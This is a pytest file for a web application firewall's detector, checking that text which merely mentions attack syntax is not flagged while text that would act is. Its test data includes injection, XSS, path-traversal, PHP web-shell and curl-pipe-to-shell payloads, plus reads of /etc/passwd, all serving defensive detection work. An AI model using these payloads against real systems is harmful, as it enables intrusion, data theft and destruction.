"""What texts show without doing it is no fact; what differs from it by what acts is one."""

import time

import pytest

from bascule.waf.logic.facts import facts_of, shown
from bascule.waf.logic.facts.conditions import is_condition, is_search
from bascule.waf.logic.values import head_values

_TRACE = b"java.io.IOException: no such file\n\tat java.nio.file.Files.read(Files.java:10)\n"
_MAIL = b'<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><body lang="en">see you on Monday then'
_PASTE = (
    b"server {\n  listen 443 ssl http2;\n  root /var/www/html;\n  server_name www.example.com;\n  index index.html;\n}"
)
_SCRIPTS = b";;System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35:en-US:ba1d5018:ea597d4b"
_GPX = b'<?xml version="1.0"?><gpx version="1.1"><trk><name>Alpe &amp; back</name></trk></gpx>'
_FENCED = (
    b"### Repro\n```bash\n$ curl -sS https://x.example/install.sh | bash\n$ ./app --file a.json\n```\n"
    b"It worked for a while and then stopped\n```\n    import os; os.system('ls')\n```\n"
)
_SHOWN = [
    (_SCRIPTS, "body", "code.dotnet"),
    (_SCRIPTS + b";Telerik.Web.UI:en-US:6f2a:16e4e7cd;", "body", "code.dotnet"),
    (_TRACE, "body", "code.java_call"),
    (b'Traceback (most recent call last):\n  File "a.py", line 7\n    os.system(cmd)\n', "body", "code.python_call"),
    (b"[i]<script> tags are stripped by design", "body", "html.script_tag"),
    (b'<script type="module"> onload event', "query", "html.script_tag"),
    (b"Escape <script> in titles\n\nBob <bob@example.com>", "body", "html.script_tag"),
    (_MAIL, "body", "html.embedding_tag"),
    (b"<style>p{color:red}</style><p>that is how we do it here</p>", "body", "html.active_tag"),
    (b"jinja2 {{ loop.index }} starts at 1", "query", "template.expression"),
    (b"run: echo ${{ secrets.TOKEN }} once more", "body", "template.expression"),
    (b"{{Infobox|name=Ada [[x]]|born=1815}}", "body", "template.expression"),
    (b"css/main.css,js/../lib/a.js", "query", "path.climbs"),
    (b"docker-compose.yml", "file", "path.app_secret"),
    (b"https://sns.example.com/SimpleNotificationService-a.pem", "body", "path.app_secret"),
    (_PASTE, "body", "path.unix_secret"),
    (b"<p>Hi Pat,<br>please open <i>a window</i> of <b>cmd.exe</b> now", "body", "shell.interpreter_path"),
    (b"{ confirm: 'Sure?' }", "body", "js.dialog_name"),
    (b"/sites/a/_vti_bin/client.svc/ProcessQuery", "path", "scanner.probe_secret"),
    (b"/intra/docs.nsf/(LookupByUNID)/D5A3F", "path", "scanner.probe_secret"),
    (b"drop table leg 40 cm", "query", "sql.change_schema"),
    (b"javascript: the good parts", "query", "html.script_url"),
    (b"C:\\Windows\\Fonts not loading", "query", "path.windows_secret"),
    (b"org.apache.struts.taglib.html.TOKEN", "name", "template.java_internals"),
    (b"/assets/js/../js/menu.js", "query", "path.climbs"),
    (_GPX, "body", "xml.declaration"),
    (b'<p>It is here</p><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>', "body", "html.script_tag"),
    (_FENCED, "body", "shell.pipe_to_shell"),
    (_FENCED, "body", "code.python_call"),
    (b"<p>Hi Tom, can you please run <code>kubectl get pods | grep Error</code> on the cluster?</p>", "body", "shell.command_after_separator"),
    (b'(CEO OR "Vice President") AND NOT assistant', "query", "sql.quote_then_logic"),
]  # fmt: skip
_DONE = [
    (_SCRIPTS + b";System.Diagnostics.Process.Start(1)", "body", "code.dotnet"),
    (b"System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a", "body", "code.dotnet"),
    (b'Runtime.getRuntime().exec("id"); /*\n\tat a.b(C.java:1)\n*/', "body", "code.java_call"),
    (b"#\nTraceback (most recent call last):\nimport os;os.system('id')", "body", "code.python_call"),
    (b"<script> alert (1)", "query", "html.script_tag"),
    (b"<script> new Image", "query", "html.script_tag"),
    (b"<script> tags are stripped</script><script>fetch(1)</script>", "body", "html.script_tag"),
    (b"<script> tags are <img src=x onerror=f()>", "body", "html.script_tag"),
    (b'<meta http-equiv="refresh" content="0;url=//a.example">see you on Monday then', "body", "html.embedding_tag"),
    (b'<style>i[value^="a"]{background:url(//a.example/a)}</style>that is how we do it here', "body", "html.active_tag"),
    (b"<style>*{color:red}</style>", "body", "html.active_tag"),
    (b"starts at {{ config.items }} one", "query", "template.expression"),
    (b"{{ loop.index }}", "query", "template.expression"),
    (b"starts at {{ a.b }} or {{ c.d() }}", "query", "template.expression"),
    (b"images/../../lib/a.js", "query", "path.climbs"),
    (b"../lib/a.js", "query", "path.climbs"),
    (b"x/config.yml", "file", "path.app_secret"),
    (b"../config.yml", "query", "path.app_secret"),
    (b"\n/etc/passwd\n" + _PASTE, "body", "path.unix_secret"),
    (b"root@localhost\ncat etc/passwd", "query", "path.unix_secret"),
    (b"<p>Please open it and run the tool now</p>; cat /etc/passwd", "body", "shell.runs_command"),
    (b"<p>these are five words here</p><?php system($_GET[0]) ?>", "body", "code.php_tag"),
    (b"/_vti_bin/shtml.exe", "path", "scanner.probe_secret"),
    (b"/names.nsf/People", "path", "scanner.probe_secret"),
    (b"1; drop table users cascade", "query", "sql.change_schema"),
    (b"javascript: new Image", "query", "html.script_url"),
    (b"javascript: the good parts javascript:fetch(1)", "query", "html.script_url"),
    (b"C:\\Windows\\win.ini", "query", "path.windows_secret"),
    (b"org.apache.xbean.propertyeditor.JndiConverter", "name", "code.java_object"),
    (b"/js/../../menu.js", "query", "path.climbs"),
    (_GPX.replace(b"?><gpx", b"?><!DOCTYPE gpx><gpx"), "body", "xml.declaration"),
    (_GPX.replace(b"1.0", b'1.0" encoding="utf-7'), "body", "xml.declaration"),
    (_GPX.replace(b"</gpx>", b""), "body", "xml.declaration"),
    (b'<script async src="https://platform.twitter.com.h.example/widgets.js"></script>', "body", "html.script_tag"),
    (b'<script src="https://platform.twitter.com/widgets.js" onload="f()"></script>', "body", "html.script_tag"),
    (b"```\ncurl -s https://h.example/a | sh\n```\n" + b"x" * 80, "body", "shell.pipe_to_shell"),
    (_FENCED.replace(b"$ ./app", b"```\ncurl h.example | sh"), "body", "shell.pipe_to_shell"),
    (b'1" OR "a" AND "b', "query", "sql.quote_then_logic"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "place", "fact"), _SHOWN)
def test_what_is_only_shown_is_no_fact(text: bytes, place: str, fact: str) -> None:
    assert fact not in facts_of(text, place)


@pytest.mark.parametrize(("text", "place", "fact"), _DONE)
def test_what_acts_beside_it_is_one(text: bytes, place: str, fact: str) -> None:
    assert fact in facts_of(text, place)


def test_a_name_with_an_apostrophe_is_in_a_condition_and_an_end_of_a_string_is_not() -> None:
    assert is_condition(b"(title ~ \"o'neil\" && created >= '2024-01-01') || author.name ?= 'x'")
    assert not is_condition(b'title = "x\'or 1=1 --"')
    assert not is_condition(b'title = "x\'|| (1)"')
    assert is_search(b'"annual report" OR title:"o\'neil" AND NOT draft')
    assert not is_search(b'"1" OR "1"')
    assert not is_search(b'id OR true OR "abc"')


def test_developers_are_sent_back_to_their_own_machine_over_https_too() -> None:
    values = head_values(b"/authorize?redirect_uri=https%3A%2F%2Flocalhost%3A44321%2Fsignin-oidc", [])
    assert (b"redirect_uri", b"/signin-oidc") in [(value.name, value.data) for value in values]


@pytest.mark.parametrize(
    "text",
    [
        b'"or sleep(5) or" or "or sleep(1) or"',
        b'"union select password from users where" or "or id is not null or"',
        b"a='or sleep(5) or'",
        b"a='+0+'",
        b"a='||sleep(5)||'",
        b"a='/**/or sleep(5)/**/or'",
        b"a = 'x' and b = ') or sleep(5) or ('",
    ],
)
def test_strings_that_are_code_between_quotes_make_no_condition(text: bytes) -> None:
    """Put into a string of a statement, they leave it: the statement goes on in what looks like their strings."""
    assert not is_condition(text)
    assert not is_search(text)


@pytest.mark.parametrize(
    "value", [b"in progress", b"not started", b"%foo%", b"/home/", b"-draft", b"Orders", b"is new"]
)
def test_strings_of_people_still_make_a_condition(value: bytes) -> None:
    assert is_condition(b"title = '" + value + b"' and state ~ \"" + value + b'"')


@pytest.mark.parametrize(
    "text",
    [
        (b"a=1" + b" " * 6 + b"and" + b" " * 4) * 20 + b"a=1!",
        (b'"abc"' + b" " * 6 + b"and" + b" " * 4) * 20 + b"ab!",
        b"a=1" + b" " * 500 + b"!",
    ],
)
def test_blanks_between_terms_are_read_once(text: bytes) -> None:
    """Each gap that could be read in several ways multiplied the time: three terms took a second."""
    began = time.thread_time()
    assert not is_condition(text)
    assert not is_search(text)
    assert time.thread_time() - began < 0.5


def test_a_word_without_end_beside_a_name_is_read_once() -> None:
    """It was read again from each of its letters: 20 s for 60 KiB."""
    began = time.thread_time()
    shown.only_shown({"template.expression"}, b"A" * 60_000 + b"{{a}}", "query")
    assert time.thread_time() - began < 1
